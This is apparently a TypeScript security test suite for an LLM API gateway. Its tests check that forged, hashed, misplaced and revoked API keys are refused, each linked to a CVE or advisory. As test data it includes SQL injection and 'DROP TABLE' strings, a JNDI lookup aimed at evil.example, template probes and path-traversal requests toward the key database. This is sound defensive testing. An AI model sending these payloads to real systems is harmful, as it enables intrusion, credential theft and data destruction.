import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import { join } from "node:path";
import { DatabaseSync } from "node:sqlite";
import { after, before, beforeEach, describe, it } from "node:test";
import { charter, estateWith } from "../integration/files.ts";
import { adminKey, type House, ledgerOf, startHouse, tidy } from "../integration/house.ts";
import { answering, startUpstream, type Upstream, until } from "../integration/upstream.ts";
import { chat, endless, errorOf, Reading } from "../operation/asking.ts";
import { exchange, goodBody, statusOf } from "./sockets.ts";

describe("credentials", () => {
  let upstream: Upstream;
  let house: House;
  let key: string;
  let id: string;
  before(async () => {
    upstream = await startUpstream();
    house = await startHouse({ charter, estate: estateWith([{ name: "cellar", url: upstream.url, kind: "own" }]) });
    const made = await house.fetch("/admin/api/keys", { method: "POST", body: JSON.stringify({ origin: "DE", label: "victim" }) });
    ({ key, id } = (await made.json()) as { key: string; id: string });
    assert.equal((await ask({ authorization: `Bearer ${key}` })).status, 200);
  });
  after(async () => {
    assert.equal((await ask({ authorization: `Bearer ${key}` })).status, 200, "the key still works at the end");
    await tidy();
    await upstream?.close();
  });
  beforeEach(() => {
    upstream.received.length = 0;
  });

  const ask = async (headers: Record<string, string>, path = "/v1/chat/completions"): Promise<Response> => {
    const post = path.startsWith("/v1/chat");
    return fetch(`${house.address}${path}`, {
      method: post ? "POST" : "GET",
      headers: { "content-type": "application/json", ...headers },
      ...(post && { body: goodBody }),
    });
  };
  const refused = async (headers: Record<string, string>, why: string): Promise<void> => {
    for (const path of ["/v1/chat/completions", "/v1/models", "/admin/api/status"]) {
      const response = await ask(headers, path);
      assert.equal(response.status, 401, `${why} at ${path}`);
      const body = await errorOf(response);
      assert.equal(body.code, "invalid_api_key");
      assert.equal(JSON.stringify(body).includes("key_"), false, "it does not name a key");
    }
    assert.equal(upstream.received.length, 0, why);
  };

  it("keys with one and the same beginning are told apart, warm or cold (litellm CVE-2026-35030)", async () => {
    for (const length of [11, 20, 25, 32, 38]) {
      const forged = key.slice(0, length) + Array.from(key.slice(length), (character) => (character === "a" ? "b" : "a")).join("");
      assert.equal((await ask({ authorization: `Bearer ${key}` })).status, 200, "the victim's key is warm");
      upstream.received.length = 0;
      await refused({ authorization: `Bearer ${forged}` }, `the first ${length} characters`);
    }
    await refused({ authorization: `Bearer ${adminKey.slice(0, -1)}` }, "the admin key but for its end");
    await refused({ authorization: `Bearer ${adminKey}\u0020x` }, "the admin key and more");
  });

  it("what is stored of a key is no key: neither its digest, in any spelling, nor its id (GHSA-69x8-hrgq-fjj8)", async () => {
    const database = new DatabaseSync(join(house.data, "freehold.db"), { readOnly: true });
    const row = database.prepare("SELECT digest FROM keys WHERE id = ?").get(id) as { digest: Uint8Array };
    database.close();
    const digest = Buffer.from(row.digest);
    const plain = createHash("sha256").update(key).digest("hex");
    assert.notEqual(digest.toString("hex"), plain, "it is not a bare hash of the key");
    for (const text of [
      digest.toString("hex"),
      digest.toString("base64"),
      digest.toString("base64url"),
      plain,
      `fh_${digest.toString("hex")}`,
      id,
      id.replace("key_", "fh_"),
    ]) {
      await refused({ authorization: `Bearer ${text}` }, text);
    }
  });

  it("the admin API and its errors show neither keys nor digests (litellm#27884, #24902)", async () => {
    const listed = await (await house.fetch("/admin/api/keys")).text();
    assert.match(listed, /"label":"victim"/);
    assert.doesNotMatch(listed, /digest|fh_|[0-9a-f]{64}/);
  });

  it("SQL, templates and paths in a bearer are a wrong key and nothing else (litellm CVE-2026-42208, GHSA-46cm-pfwv-cgf8)", async () => {
    const bearers = [
      "' OR '1'='1' --",
      `fh_' UNION SELECT digest FROM keys WHERE id='${id}`,
      'fh_"; DROP TABLE keys; --',
      "{{7*7}}",
      ["$", "{jndi:ldap://evil.example/x}"].join(""),
      "../../data/freehold.db",
      "__proto__",
      "constructor",
      "fh_",
      `fh_${"A".repeat(36)}`,
      "x".repeat(600),
    ];
    for (const bearer of bearers) await refused({ authorization: `Bearer ${bearer}` }, bearer.slice(0, 40));
    const listed = (await (await house.fetch("/admin/api/keys")).json()) as { id: string }[] | { data: { id: string }[] };
    assert.ok(JSON.stringify(listed).includes(id), "the table of keys is still there");
  });

  it("a key in any other place than the bearer is no key (Open WebUI CVE-2026-45339)", async () => {
    await refused({ "x-api-key": key }, "x-api-key");
    await refused({ "api-key": key }, "api-key");
    await refused({ authorization: `Basic ${Buffer.from(`user:${key}`).toString("base64")}` }, "Basic");
    await refused({ authorization: key }, "without Bearer");
    await refused({ authorization: `Token ${key}` }, "Token");
    await refused({ cookie: `token=${key}` }, "a cookie");
    await refused({ "proxy-authorization": `Bearer ${key}` }, "proxy-authorization");
    assert.equal((await ask({}, `/v1/models?api_key=${key}`)).status, 401, "the query");
    assert.equal(house.said().includes(key), false);
  });

  it("a revoked key ends the stream that it began, and only that one (Open WebUI CVE-2026-44553)", async () => {
    const { behaviour, finish } = endless();
    upstream.behave(behaviour);
    const made = (await (await house.fetch("/admin/api/keys", { method: "POST", body: JSON.stringify({ origin: "DE" }) })).json()) as {
      key: string;
      id: string;
    };
    const [leaver, stayer] = await Promise.all(
      [made.key, key].map(
        async (bearer) => new Reading(await chat(house, { stream: true }, { authorization: `Bearer ${bearer}`, "x-request-id": `stream-${bearer === key}` })),
      ),
    );
    await until(() => leaver?.text.includes("word") === true && stayer?.text.includes("word") === true, "both have begun");
    assert.equal((await house.fetch(`/admin/api/keys/${made.id}`, { method: "DELETE" })).status, 200);
    assert.equal(await leaver?.ended, true);
    assert.match(leaver?.text ?? "", /"code":"invalid_api_key"[^\n]*\n\n$/);
    assert.doesNotMatch(leaver?.text ?? "", /DONE/);
    await until(() => upstream.received.some(({ cancelled }) => cancelled), "the backend's work for it is cancelled");
    finish();
    await stayer?.ended;
    assert.match(stayer?.text ?? "", /the end.*\[DONE\]/s);
    upstream.behave(answering());
    await until(async () => (await ledgerOf(house, "--request", "stream-false")).length === 2, "its outcome is recorded");
    const [, outcome] = await ledgerOf(house, "--request", "stream-false");
    assert.deepEqual([outcome?.status, outcome?.code], ["cut", "invalid_api_key"]);
  });

  it("no spelling of path or Host reaches a guarded route without a key (litellm CVE-2026-49468, vLLM CVE-2026-48746, MLflow CVE-2026-0545)", async () => {
    const paths = [
      "/healthz/../admin/api/keys",
      "/healthz/..%2fadmin/api/keys",
      "/healthz%2f..%2fadmin%2fapi%2fkeys",
      "//admin/api/keys",
      "/admin//api/keys",
      "/./admin/api/keys",
      "/ADMIN/API/KEYS",
      "/admin/api/keys/",
      "/admin/api/keys;/healthz",
      "/admin/api/keys%00",
      "/admin/api/keys?x=/healthz",
      "/%61dmin/api/keys",
      "/admin\\api\\keys",
      "/v1/models/../../admin/api/keys",
      "/v1/models/",
      "/v1/%6dodels",
    ];
    for (const path of paths) {
      for (const host of ["x", "x/healthz?", "localhost", "healthz"]) {
        const answer = await exchange(house, [`GET ${path} HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`]);
        assert.ok([400, 401, 404].includes(statusOf(answer)), `${path} at ${host}: ${answer.slice(0, 80)}`);
        assert.equal(answer.includes("victim"), false);
      }
    }
  });
});
